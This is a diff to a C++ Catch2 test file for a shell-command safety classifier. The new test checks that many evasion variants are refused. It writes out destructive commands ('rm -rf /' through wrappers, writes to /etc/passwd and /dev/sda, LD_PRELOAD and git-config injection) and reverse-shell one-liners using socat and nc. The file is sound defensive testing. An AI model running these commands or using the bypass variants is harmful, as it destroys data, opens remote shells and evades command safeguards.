@@ -332,3 +332,79 @@ TEST_CASE("the settings' rules are validated, naming the entry", "[classifier]")
   r.deny_programs = {"/usr/bin/curl"};
   CHECK_THROWS_WITH(paddock::validate(r, "commands"), Catch::Contains("a program's basename"));
 }
+
+TEST_CASE("a hostile review's bypasses stay closed", "[classifier]") {
+  // Wrappers whose options took the command's name for a value.
+  expect_all({"command -p rm -rf /",
+              "time -p rm -rf /",
+              "exec -c rm -rf /",
+              "strace -f rm -rf /",
+              "chrt -f 99 rm -rf /",
+              "taskset -c 0 rm -rf /",
+              "flock -n /tmp/l rm -rf /",
+              "flock /tmp/l -c 'rm -rf /'",
+              "ionice -t rm -rf /",
+              "xargs -i rm -rf /",
+              "env - rm -rf /",
+              "env -iS 'rm -rf /'",
+              "setsid -f rm -rf /",
+              "fakeroot rm -rf /",
+              "gosu root rm -rf /",
+              "setpriv --reuid=0 rm -rf /",
+              "uv run rm -rf /",
+              "npx rm -rf /",
+              "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /",
+              "perf stat rm -rf /",
+              "gdb --args rm -rf /",
+              "hyperfine 'rm -rf /'",
+              "chroot / rm -rf /",
+              "unshare -r rm -rf /",
+              "cmake -E remove_directory /"},
+             Decision::forbidden, "recursive-delete-root-or-home");
+  // Shells, and text into them.
+  expect_all({"bash --rcfile /dev/null -c 'rm -rf /'", "bash -s -c 'rm -rf /'",
+              "bash /dev/stdin <<< 'rm -rf /'", "rbash -c 'rm -rf /'", "echo rm -rf / | sh",
+              "cat <<X\n`rm -rf /`\nX", "echo ${x:-`rm -rf /`}", "trap 'rm -rf /' EXIT",
+              "alias ll='rm -rf /'"},
+             Decision::forbidden, "recursive-delete-root-or-home");
+  expect("echo 'echo rm -rf /' | sh | sh", Decision::escalated, "script-from-pipe");
+  expect("printf '\\162m -rf /' | sh", Decision::escalated, "dynamic-script");
+  // Targets in other spellings.
+  expect_all({"rm -rf //etc", "rm -rf /tmp/../etc", "rm -rf ~root", "rm -rf /etc/*",
+              "rm -rf /[a-z]*", "rm -rf {/,}", "rm -rf /{etc,usr}", "rm --rec --force /",
+              "rm -rf \"$HOME\"", "rm -rf \"${HOME}/\""},
+             Decision::forbidden, "recursive-delete-root-or-home");
+  expect("mv /etc /tmp/e", Decision::forbidden, "move-root-or-home");
+  expect("chmod -R 000 /", Decision::forbidden, "permissions-root-or-home");
+  expect_all({"chmod a=rwx f", "chmod 1777 d", "chmod 00777 f", "chmod o+rwx f",
+              "chmod u=rwx,g=rwx,o=rwx f", "chmod 757 f"},
+             Decision::forbidden, "world-writable");
+  // Writes to devices and system files, through redirects anywhere and through programs.
+  expect_all({"cat x > //dev/sda", "echo > /dev/./sda", "echo > /dev/mapper/root", "> /etc/passwd",
+              "true && > /etc/passwd", "[[ 1 ]] > /etc/passwd", "f() { cat; } > /etc/passwd",
+              "export X=1 > /etc/passwd", "echo c > /proc/sysrq-trigger"},
+             Decision::forbidden, "system-redirect");
+  expect_all({"cp x /etc/passwd", "tee /dev/sda", "dd of=//dev/sda", "sort -o /etc/passwd x",
+              "truncate -s 0 /etc/passwd", "ln -sf /dev/null /etc/passwd"},
+             Decision::forbidden, "system-write");
+  // Variables and code that run later.
+  expect_all(
+      {"LD_PRELOAD=./evil.so ls", "export PATH=/tmp", "GIT_PAGER=x git log",
+       "GIT_CONFIG_PARAMETERS=\"'core.fsmonitor'='x'\" git status", "BASH_ENV=./x bash -c ls"},
+      Decision::escalated, "environment-injection");
+  expect("test -v 'a[$(rm -rf /)]'", Decision::escalated, "deferred-code");
+  expect("git -C . -c core.fsmonitor=x status", Decision::escalated, "git-config-override");
+  expect("rg --pre 'rm -rf /' x", Decision::escalated, "runs-a-command");
+  expect("exec 3<>/dev/$x/evil/1", Decision::escalated, "dynamic-device");
+  // Disks, power, databases, sockets.
+  expect("cryptsetup luksFormat /dev/sdb", Decision::forbidden, "format-filesystem");
+  expect("systemctl poweroff", Decision::forbidden, "power-off");
+  expect("socat tcp:x:1 Exec:/bin/sh", Decision::forbidden, "reverse-shell");
+  expect("nc.traditional -e /bin/sh h 4444", Decision::forbidden, "reverse-shell");
+  expect("psql -c 'drop  table x'", Decision::forbidden, "destructive-sql");
+  expect("redis-cli FLUSHALL", Decision::forbidden, "destructive-sql");
+  // And what must stay ordinary.
+  expect_all({"fdisk -l", "systemctl status x", "shred notes.txt", "chmod 755 f", "rm -rf ./build"},
+             Decision::sandboxed);
+  expect_all({"git log -x", "timeout 5 make", "FOO=1 make"}, Decision::allow);
+}
